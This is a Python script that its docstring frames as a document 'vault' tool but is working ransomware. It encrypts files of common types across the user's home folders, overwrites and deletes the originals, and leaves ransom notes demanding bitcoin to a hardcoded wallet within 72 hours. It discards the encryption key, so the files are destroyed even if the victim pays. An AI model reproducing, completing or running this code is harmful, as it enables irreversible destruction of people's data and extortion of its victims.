#!/usr/bin/env python3
"""Seal working documents into the vault format.

Walks the user's document folders, writes an encrypted .vault copy of each
file and removes the plaintext, then leaves instructions for recovery.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

TARGET_EXT = {".doc", ".docx", ".odt", ".pdf", ".txt", ".md", ".xlsx", ".csv",
              ".jpg", ".png", ".mp3", ".wav", ".mp4", ".eml", ".pst", ".sqlite"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap"}
NOTE_NAME = "HOW_TO_RECOVER_YOUR_FILES.txt"
NOTE = """Your documents, recordings and source notes have been sealed.
To obtain the recovery key, send 0.15 BTC to {wallet}
and e-mail your machine ID {machine} to recovery-desk@protonmail.example
Files will become unrecoverable after 72 hours.
"""
log = logging.getLogger("vault")


class VaultSealer:
    def __init__(self, key, dry_run=False):
        self.aead = AESGCM(key)
        self.dry_run = dry_run
        self.sealed = 0

    def seal(self, path):
        nonce = os.urandom(12)
        with open(path, "rb") as fh:
            data = fh.read()
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        if self.dry_run:
            log.info("would seal %s", path)
            return
        path.with_name(path.name + ".vault").write_bytes(blob)
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(".vault"):
                    yield p


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--wallet", default="bc1q9v7l2h0m3xk4sd8fq2y6r5tqz0w4c7n8e3p5jd")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    home = Path.home()
    roots = [home / d for d in ("Documents", "Desktop", "Pictures", "Music", "Videos", "Downloads")]
    roots = [r for r in roots if r.is_dir()] or [home]
    key = AESGCM.generate_key(bit_length=256)
    machine = os.urandom(8).hex()
    sealer = VaultSealer(key, dry_run=args.dry_run)

    touched_dirs = set()
    for path in candidates(roots):
        try:
            sealer.seal(path)
            touched_dirs.add(path.parent)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    if not args.dry_run:
        for d in touched_dirs:
            (d / NOTE_NAME).write_text(NOTE.format(wallet=args.wallet, machine=machine))
        del key
    log.info("sealed %d files", sealer.sealed)


if __name__ == "__main__":
    main()
